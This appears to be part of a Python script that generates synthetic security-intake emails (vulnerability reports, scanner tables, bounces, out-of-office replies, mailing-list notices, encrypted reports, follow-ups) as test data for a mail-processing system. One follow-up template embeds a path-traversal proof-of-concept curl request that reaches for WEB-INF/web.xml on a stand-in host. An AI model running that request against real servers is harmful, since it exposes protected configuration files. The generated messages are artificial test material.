            subject = rng.choice(["Vendor security questionnaire", "Security assessment form - please complete",
                                  "SOC 2 / ISO 27001 request"])
            text = (f"Dear {pname} team,\n\nas part of our vendor risk management programme please fill out "
                    f"the attached security questionnaire (SIG Lite) and return it within 10 business days.\n\n"
                    f"Kind regards,\n{name}\nThird-party risk, {addr.split('@')[1]}\n")
            atts.append(attachment("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
                                   "SIG-Lite-2026.xlsx", zip_bytes(rng, rng.randint(3_000, 12_000))))
        elif kind == "bounty":
            subject = "Bug bounty program?"
            text = (f"Hi,\n\nI found a critical issue in {kw}. Do you offer a bug bounty or any monetary reward "
                    f"before I share the details? I would like to know your payout range.\n\nRegards,\n{name}\n")
        elif kind == "sbom":
            subject = f"SBOM request for {pname} {ver}"
            text = (f"Hello,\n\nplease send us the software bill of materials (SBOM, CycloneDX or SPDX) and a VEX "
                    f"statement for {pname} {ver}. Our compliance team requires it.\n\nBest,\n{name}\n")
        else:
            subject = f"Feature request: {rng.choice(['Argon2 password hashing', 'configurable TLS groups', 'audit log'])} in {kw}"
            text = (f"Hi,\n\nit would be great if {pname} could add support for "
                    f"{rng.choice(['Argon2', 'post-quantum key exchange', 'structured audit logs'])}. "
                    f"Please add an option for it.\n\nThanks,\n{name}\n")
        if pad:
            if kind == "upgrade" or rng.random() < 0.5:
                text += "\n" + log_bytes(rng, pad, f"org.apache.{pid}").decode() + "\n"
            else:
                text += "\n" + prose(rng, pad, project) + "\n"
        body = text_part(wrap(text, 76) if kind != "upgrade" else text, rng)
        if attach:
            atts.append(self.filler_attachment(rng, rng.choice(["log", "log", "zip", "png"]), attach, project))
        return self.headers(i, rng, name, addr, subject), self.with_attachments(rng, body, atts)

    def scanner(self, i, rng, pad, attach):
        project = self.project(rng)
        pid, pname, kws = project
        kw = rng.choice(kws)
        name, addr = self.person(rng)
        tool = rng.choice(["trivy", "npm audit", "Nessus", "dependency-check", "OWASP ZAP", "Qualys"])
        subject = rng.choice([f"Critical vulnerabilities found in {pname}", f"{tool} scan results for {kw}",
                              f"Security scan report: {kw}", f"Vulnerabilities in {kw} docker image"])
        rows = [f"| {'Library':<14} | {'Vulnerability':<16} | {'Severity':<8} | {'Installed Version':<18} | {'Fixed Version':<14} |"]
        n = rng.randint(6, 20) + pad // 90
        for _ in range(n):
            rows.append(f"| {rng.choice(['libexpat1', 'zlib1g', 'libssl3', 'netty-codec', 'jackson-databind', 'snakeyaml', 'commons-io', 'guava', 'spring-web', kw]):<14} | "
                        f"CVE-{rng.randint(2019, 2026)}-{rng.randint(1000, 59999):<5}   | "
                        f"{rng.choice(['CRITICAL', 'HIGH', 'HIGH', 'MEDIUM', 'LOW']):<8} | "
                        f"{rng.randint(1, 9)}.{rng.randint(0, 20)}.{rng.randint(0, 30):<14} | "
                        f"{rng.randint(1, 9)}.{rng.randint(0, 20)}.{rng.randint(0, 30):<10} |")
        text = (f"Hi,\n\nour pipeline blocks the build because of these findings. When will you fix them?\n\n"
                f"$ {tool.lower()} {kw}:{rng.randint(1, 11)}.{rng.randint(0, 9)}\n\n"
                f"Total: {n} (CRITICAL: {rng.randint(1, 9)}, HIGH: {rng.randint(1, 20)})\n\n" +
                "\n".join(rows) + f"\n\nRegards,\n{name}\n")
        body = text_part(text, rng)
        atts = []
        if attach:
            atts.append(self.filler_attachment(rng, rng.choice(["pdf", "pdf", "zip", "log"]), attach, project))
        return self.headers(i, rng, name, addr, subject), self.with_attachments(rng, body, atts)

    def html(self, i, rng, pad, attach):
        # A report, question or notice written in a rich-text client.
        hs_body = self.report if rng.random() < 0.7 else self.bugq
        hs, inner = hs_body(i, rng, pad, 0)
        text_p = inner if inner.children is None else inner.children[0]
        plain = text_p.body if text_p.cte != "quoted-printable" else quopri.decodestring(
            text_p.body.encode()).decode("utf-8", "replace")
        html = Part("text/html; charset=UTF-8", qp(html_of(plain, rng)), "quoted-printable")
        if rng.random() < 0.4:
            body = html  # HTML only
        else:
            b = self.boundary(rng)
            body = Part(f'multipart/alternative; boundary="{b}"', "", None, [],
                        [Part(text_p.ctype, text_p.body, text_p.cte), html], b)
        atts = []
        if attach:
            kind = rng.choice(["png", "jpg", "pdf"])
            if kind in ("png", "jpg") and rng.random() < 0.5:
                b = self.boundary(rng)
                img = self.filler_attachment(rng, kind, attach)
                img.headers = [("Content-Disposition", "inline"), ("Content-ID", f"<image001.{kind}@01DC{rng.getrandbits(32):08X}>")]
                body = Part(f'multipart/related; boundary="{b}"', "", None, [], [body, img], b)
            else:
                atts.append(self.filler_attachment(rng, kind, attach))
        return hs, self.with_attachments(rng, body, atts)

    def auto(self, i, rng, pad, attach):
        name, addr = self.person(rng)
        ack_id = f"secintake.{rng.getrandbits(64):016x}{rng.getrandbits(32):08x}@example.org"
        orig_subject = rng.choice(["Your report to security@example.org", "Re: Path traversal in Apache Tomcat",
                                   "Please resubmit your report as plain text"])
        kind = rng.random()
        if kind < 0.45:  # RFC 3464 bounce
            domain = addr.split("@")[1]
            subject = rng.choice(["Undelivered Mail Returned to Sender", "Delivery Status Notification (Failure)",
                                  "Undeliverable: " + orig_subject, "failure notice", "Mail delivery failed: returning message to sender"])
            notice = Part("text/plain; charset=us-ascii",
                          wrap(f"This is the mail system at host smtp.{domain}.\n\nI'm sorry to have to inform you "
                               f"that your message could not be delivered to one or more recipients.\n\n"
                               f"<{addr}>: host mailbox.{domain}[198.51.100.{rng.randint(1, 254)}] said: 550 5.1.1 "
                               f"<{addr}>: Recipient address rejected: User unknown (in reply to RCPT TO command)\n"),
                          None, [("Content-Description", "Notification")])
            status = Part("message/delivery-status",
                          f"Reporting-MTA: dns; smtp.{domain}\nX-Postfix-Queue-ID: {rng.getrandbits(40):010X}\n"
                          f"Arrival-Date: {fmt_date(self.date(i, rng)[1])}\n\nFinal-Recipient: rfc822; {addr}\n"
                          f"Original-Recipient: rfc822;{addr}\nAction: failed\nStatus: 5.1.1\n"
                          f"Remote-MTA: dns; mailbox.{domain}\nDiagnostic-Code: smtp; 550 5.1.1 User unknown\n",
                          None, [("Content-Description", "Delivery report")])
            returned_text = ("Thank you for your report. We have opened a case and forwarded it to the "
                             "project's security team.\n\n" + (prose(rng, pad, self.project(rng)) if pad else ""))
            returned = (f"Return-Path: <>\nFrom: Security Team <security@example.org>\nTo: {addr}\n"
                        f"Subject: {orig_subject}\nDate: {fmt_date(self.date(max(0, i - 3), rng)[1])}\n"
                        f"Message-ID: <{ack_id}>\nAuto-Submitted: auto-replied\nX-Secintake-Loop: security@example.org\n"
                        f"MIME-Version: 1.0\nContent-Type: text/plain; charset=utf-8\n\n{wrap(returned_text)}\n")
            if rng.random() < 0.5:
                ret = Part("message/rfc822", returned, None, [("Content-Description", "Undelivered Message")])
            else:
                ret = Part("text/rfc822-headers", returned.split("\n\n")[0] + "\n", None,
                           [("Content-Description", "Undelivered Message Headers")])
            b = self.boundary(rng)
            body = Part(f'multipart/report; report-type=delivery-status; boundary="{b}"',
                        "This is a MIME-encapsulated message.\n", None, [], [notice, status, ret], b)
            hs, mid = self.headers(i, rng, "Mail Delivery System", f"MAILER-DAEMON@smtp.{domain}", subject,
                                   extra=[("Auto-Submitted", "auto-replied")], return_path="<>", dkim=False)
            return (hs, mid), body
        if kind < 0.9:  # out of office
            subject = rng.choice([f"Out of Office: {orig_subject}", f"Automatic reply: {orig_subject}",
                                  f"Abwesenheitsnotiz: {orig_subject}", f"Auto: {orig_subject}",
                                  f"Re: {orig_subject} [vacation]"])
            extra = [("Auto-Submitted", "auto-replied"), ("In-Reply-To", f"<{ack_id}>")]
            if rng.random() < 0.5:
                extra.append(("X-Autoreply", "yes"))
            if rng.random() < 0.3:
                extra.append(("Precedence", "auto_reply"))
            text = (f"I am out of the office until {rng.randint(1, 28)} {rng.choice(['March', 'April', 'May'])} "
                    f"with limited access to email. For urgent matters please contact "
                    f"{self.person(rng)[1]}.\n\n{name}\n")
            hs, mid = self.headers(i, rng, name, addr, subject, extra=extra,
                                   return_path="<>" if rng.random() < 0.5 else None)
            return (hs, mid), text_part(wrap(text), rng)
        # read receipt (RFC 8098)
        subject = f"Read: {orig_subject}"
        b = self.boundary(rng)
        body = Part(f'multipart/report; report-type=disposition-notification; boundary="{b}"', "", None, [], [
            Part("text/plain; charset=UTF-8", f"Your message to {addr} was read on {fmt_date(self.date(i, rng)[1])}.\n"),
            Part("message/disposition-notification",
                 f"Reporting-UA: {rng.choice(MAILERS[:4])}\nFinal-Recipient: rfc822;{addr}\n"
                 f"Original-Message-ID: <{ack_id}>\nDisposition: manual-action/MDN-sent-manually; displayed\n"),
        ], b)
        hs, mid = self.headers(i, rng, name, addr, subject)
        return (hs, mid), body

    def listmail(self, i, rng, pad, attach):
        project = self.project(rng)
        pid, pname, kws = project
        kw = rng.choice(kws)
        kind = rng.random()
        ver = f"{rng.randint(1, 11)}.{rng.randint(0, 9)}.{rng.randint(0, 60)}"
        if kind < 0.35:
            name, addr = self.person(rng)
            subject = f"[ANNOUNCE] {pname} {ver} released"
            extra = [("List-Id", f"<announce.{pid}.example.org>"),
                     ("List-Unsubscribe", f"<mailto:announce-unsubscribe@{pid}.example.org>"),
                     ("List-Post", f"<mailto:announce@{pid}.example.org>"), ("Precedence", "list"),
                     ("Mailing-List", f"contact announce-help@{pid}.example.org; run by ezmlm")]
            text = (f"The {pname} team is pleased to announce the immediate availability of {pname} {ver}.\n\n"
                    f"This release contains a number of bug fixes and improvements, including:\n\n" +
                    "\n".join(f"- Fix {rng.choice(THINGS)} handling in {rng.choice(CLASSES)} ({kw.upper()}-{rng.randint(1000, 99999)})"
                              for _ in range(rng.randint(5, 20) + pad // 80)) +
                    f"\n\nDownloads: https://{pid}.example.org/download.cgi\n\nThe {pname} team\n")
            body = text_part(text, rng)
        elif kind < 0.65:
            name, addr = "GitHub", "notifications@github.example"
            issue = rng.randint(1000, 30000)
            subject = f"Re: [apache/{pid}] {kw.upper()}-{issue}: {rng.choice(['Fix NPE in', 'Improve', 'Refactor'])} {rng.choice(CLASSES)} (PR #{issue})"
            extra = [("List-ID", f"apache/{pid} <{pid}.apache.github.example>"),
                     ("List-Unsubscribe", f"<mailto:unsub+{rng.getrandbits(64):016x}@reply.github.example>"),
                     ("X-GitHub-Reason", "subscribed"), ("Precedence", "list"),
                     ("In-Reply-To", f"<apache/{pid}/pull/{issue}@github.example>")]
            comment = wrap(f"{rng.choice(FIRST).lower()} left a comment (apache/{pid}#{issue})\n\n"
                           + prose(rng, 300 + pad, project) +
                           f"\n\n--\nReply to this email directly, view it on GitHub:\n"
                           f"https://github.example/apache/{pid}/pull/{issue}#issuecomment-{rng.getrandbits(32)}\n"
                           "You are receiving this because you are subscribed to this thread.")
            b = self.boundary(rng)
            body = Part(f'multipart/alternative; boundary="{b}"', "", None, [],
                        [Part("text/plain; charset=UTF-8", comment, "7bit"),
                         Part("text/html; charset=UTF-8", qp(html_of(comment, rng)), "quoted-printable")], b)
        else:
            name, addr = rng.choice([("SecureCon 2026", "news@securecon.example"), ("CloudTools Weekly", "digest@cloudtools.example"),
                                     ("Webinar Team", "events@vendor.example")])
            subject = rng.choice(["Last chance: early-bird tickets", "Your weekly security digest",
                                  f"Webinar: hardening {pname} in production", "New: free vulnerability scanning"])
            extra = [("List-Unsubscribe", f"<https://{addr.split('@')[1]}/u/{rng.getrandbits(64):016x}>"),
                     ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click"), ("Precedence", "bulk"),
                     ("X-Campaign-ID", f"{rng.getrandbits(40):010x}")]
            items = "\n\n".join(wrap(f"{rng.choice(['Featured', 'News', 'Tip', 'Event'])}: "
                                     + rng.choice(IMPACT).capitalize() + " - what every team should know. "
                                     + "Read more at https://" + addr.split("@")[1] + f"/a/{rng.getrandbits(32)}")
                                for _ in range(rng.randint(4, 12) + pad // 200))
            html = html_of(items, rng).replace("<p>", '<table width="600" cellpadding="0" cellspacing="0" '
                                                'style="border:0;background:#ffffff"><tr><td style="padding:12px;'
                                                'font-family:Arial,sans-serif;font-size:14px;color:#333333"><p>') \
                .replace("</p>", "</p></td></tr></table>")
            b = self.boundary(rng)
            body = Part(f'multipart/alternative; boundary="{b}"', "", None, [],
                        [Part("text/plain; charset=UTF-8", items, "7bit"),
                         Part("text/html; charset=UTF-8", qp(html), "quoted-printable")], b)
        atts = []
        if attach:
            atts.append(self.filler_attachment(rng, rng.choice(["jpg", "pdf", "png"]), attach))
        hs, mid = self.headers(i, rng, name, addr, subject, extra=extra)
        return (hs, mid), self.with_attachments(rng, body, atts)

    def other(self, i, rng, pad, attach):
        r = rng.random()
        name, addr = self.person(rng)
        if r < 0.4 or not self.reports:
            sub = rng.random()
            subject = rng.choice(["Encrypted vulnerability report", "Security issue (encrypted)", "Report", "..."])
            cipher = rng.randbytes(900 + pad * 3 // 4)
            armored = ("-----BEGIN PGP MESSAGE-----\n\n" + b64_lines(cipher) + "\n=" +
                       base64.b64encode(rng.randbytes(3)).decode() + "\n-----END PGP MESSAGE-----\n")
            if sub < 0.5:
                b = self.boundary(rng)
                body = Part(f'multipart/encrypted; protocol="application/pgp-encrypted"; boundary="{b}"',
                            "This is an OpenPGP/MIME encrypted message (RFC 4880 and 3156)\n", None, [], [
                                Part("application/pgp-encrypted", "Version: 1\n", None,
                                     [("Content-Description", "PGP/MIME version identification")]),
                                Part('application/octet-stream; name="encrypted.asc"', armored, None,
                                     [("Content-Description", "OpenPGP encrypted message"),
                                      ("Content-Disposition", 'inline; filename="encrypted.asc"')])], b)
            elif sub < 0.75:
                body = Part('application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
                            b64_lines(rng.randbytes(1500 + pad * 3 // 4)), "base64",
                            [("Content-Disposition", 'attachment; filename="smime.p7m"')])
            else:
                body = text_part(armored, rng)
            hs, mid = self.headers(i, rng, name, addr, subject)
            return (hs, mid), body
        # A follow-up to an earlier report: by In-Reply-To, and/or with a case tag.
        k = rng.randrange(len(self.reports))
        oi, omid, osubj, oaddr, oname = self.reports[k]
        name, addr = oname, oaddr
        extra = [("In-Reply-To", f"<{omid}>"), ("References", f"<{omid}>")]
        tag = f"[SEC-{self.case_year}-{rng.randint(1, max(1, min(len(self.reports), 9999))):04d}] "
        if rng.random() < 0.5:
            subject = "Re: " + tag + osubj
            if rng.random() < 0.4:
                extra = []  # the tag alone
        else:
            subject = "Re: " + osubj
        quoted = "\n".join("> " + l for l in prose(rng, 600 + pad, self.project(rng)).split("\n"))
        text = wrap(rng.choice([
            "Hi, any update on this? It has been three weeks.",
            "Here is an updated PoC that also works on the latest release:\n\n    curl -v 'http://target.test:8080/x/..%2f..%2fWEB-INF/web.xml'",
            "Thanks for the quick answer. I can confirm the patch fixes the issue in my setup.",
            "Could you let me know which CVE id was assigned, and when the advisory will be published?",
        ])) + f"\n\n{name}\n\nOn {fmt_date(self.date(oi, rng)[1])}, {oname} <{oaddr}> wrote:\n" + quoted + "\n"
        hs, mid = self.headers(i, rng, name, addr, subject, extra=extra)
        return (hs, mid), text_part(text, rng)

    # -- one message, sized -----------------------------------------------------------------

    def build(self, i, cat, pad, attach):
        rng = random.Random(f"{self.seed}:msg:{i}")
        fn = {"report": self.report, "bugq": self.bugq, "scanner": self.scanner, "html": self.html,
              "auto": self.auto, "list": self.listmail, "other": self.other}[cat]
        self.last_report = None
        (hs, mid), body = fn(i, rng, pad, attach)
        return self.render(hs, body), mid

    def message(self, i):
        cat = self.cats[i]
        target = self.targets[i]
        raw, mid = self.build(i, cat, 0, 0)
        gap = target - len(raw)
        pad = attach = 0
        can_attach = cat in ("report", "bugq", "scanner", "html", "list")
        if gap > 0:
            if can_attach and gap > TEXT_PAD_LIMIT:
                attach = gap
            else:
                pad = min(gap, 60_000)
            for _ in range(3):  # converge on the target
                raw, mid = self.build(i, cat, pad, attach)
                diff = target - len(raw)
                if abs(diff) < max(64, target // 200):
                    break
                if attach:
                    attach = max(0, attach + diff)
                else:
                    pad = max(0, pad + diff)
        if cat in ("report", "html") and self.last_report and len(raw) < 200_000:
            subject, addr, name = self.last_report
            self.reports.append((i, mid, subject, addr, name))
        return raw


def pct(sorted_vals, p):
    k = (len(sorted_vals) - 1) * p / 100.0
    lo, hi = int(math.floor(k)), int(math.ceil(k))
    return sorted_vals[lo] + (sorted_vals[hi] - sorted_vals[lo]) * (k - lo)


def human(n):
    n = float(n)
    for unit in ["B", "KB", "MB"]:
        if n < 1024 or unit == "MB":
            return f"{n:.0f} {unit}" if unit == "B" else f"{n:.1f} {unit}"
        n /= 1024


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--count", type=int, default=10000, help="messages to write (default 10000)")
    ap.add_argument("--out", required=True, help="folder to write NNNNN.eml into (created)")
    ap.add_argument("--seed", type=int, default=1, help="random seed (default 1)")
    ap.add_argument("--config", default=DEFAULT_CONFIG, help="config whose project keywords to use")
    ap.add_argument("--case-year", type=int, default=2026,
                    help="year in the case tags of follow-ups (default 2026)")
    ap.add_argument("--quiet", action="store_true", help="print only the summary line")
    ap.add_argument("--deliverable", action="store_true",
                    help="senders in example.com/example.net only, which the test MTA delivers to "
                         "(scripts/bench-e2e.sh), so every acknowledgement really goes out")
    args = ap.parse_args()
    if args.deliverable:
        DOMAINS[:] = ["example.com", "example.net"]
    if args.count < 1:
        ap.error("--count must be at least 1")

    os.makedirs(args.out, exist_ok=True)
    gen = Gen(args.seed, args.count, load_projects(args.config), args.case_year)
    width = max(5, len(str(args.count)))
    sizes = []
    per_cat = {}
    for i in range(args.count):
        raw = gen.message(i)
        path = os.path.join(args.out, f"{i + 1:0{width}d}.eml")
        with open(path, "wb") as f:
            f.write(raw)
        sizes.append(len(raw))
        per_cat[gen.cats[i]] = per_cat.get(gen.cats[i], 0) + 1

    s = sorted(sizes)
    total = sum(s)
    over = sum(1 for x in s if x > 500_000)
    summary = (f"{args.count} messages, {human(total)} in {args.out}: median {human(pct(s, 50))}, "
               f"p90 {human(pct(s, 90))}, p99 {human(pct(s, 99))}, max {human(s[-1])} "
               f"({s[-1]} bytes), mean {human(statistics.fmean(s))}, {over} over 500 KB")
    if not args.quiet:
        names = {"report": "vulnerability reports", "bugq": "bug reports / questions",
                 "scanner": "scanner dumps", "html": "HTML-only / alternative", "auto": "bounces / auto-replies",
                 "list": "list / bulk", "other": "encrypted / follow-ups"}
        for name, _, _ in CATEGORIES:
            n = per_cat.get(name, 0)
            print(f"  {names[name]:<26} {n:6d}  ({100.0 * n / args.count:.1f}%)")
    print(summary)


if __name__ == "__main__":
    sys.exit(main())
